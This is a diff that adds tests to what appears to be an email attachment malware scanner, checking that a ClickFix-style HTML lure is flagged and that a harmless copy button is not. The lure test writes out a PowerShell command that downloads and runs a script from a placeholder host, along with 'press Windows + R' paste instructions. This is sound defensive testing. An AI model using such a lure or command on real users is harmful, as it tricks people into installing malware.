@@ -275,6 +275,28 @@ class AttachmentMessageTest {
         }
 
         @Test
+        void aPageThatCopiesACommandForTheReaderIsClickFix() {
+            String page = "<html><body><h2>Word could not open the file.</h2><p>Click Fix, press Windows + R, then Ctrl + V and"
+                + " Enter.</p><button onclick=\"fix()\">Fix</button><script>function fix() { navigator.clipboard.writeText("
+                + "'powershell -w 1 -c \"iex(irm https://docs-fix-cdn.example/r.txt)\"'); }</script></body></html>";
+            Verdict verdict = scanAttachment("text/html", "Remittance.html", page.getBytes(StandardCharsets.UTF_8));
+
+            assertThat(details(verdict, "html.clipboard-command")).containsExactly("'Remittance.html' (part 1.2): HTML file"
+                + " attachment's script copies a command ('powershell') to the clipboard, for the reader to paste into Run or"
+                + " a terminal");
+            assertThat(verdict.verdictClass()).isEqualTo(VerdictClass.MALWARE);
+        }
+
+        @Test
+        void aPageWithACopyButtonForOrdinaryTextIsNoClickFix() {
+            String page = "<html><body><p>Your voucher: <b id=\"v\">XMAS-2026-4411</b></p><button onclick=\"navigator.clipboard"
+                + ".writeText(document.getElementById('v').textContent)\">Copy</button></body></html>";
+            Verdict verdict = scanAttachment("text/html", "voucher.html", page.getBytes(StandardCharsets.UTF_8));
+
+            assertThat(verdict.rules()).doesNotContain("html.clipboard-command", "text.paste-and-run");
+        }
+
+        @Test
         void htmlScriptRedirectShouldBeReported() {
             String page = "<html><head><script>window.location.href = 'https://evil.example-redirect.top/x';</script>"
                 + "</head></html>";
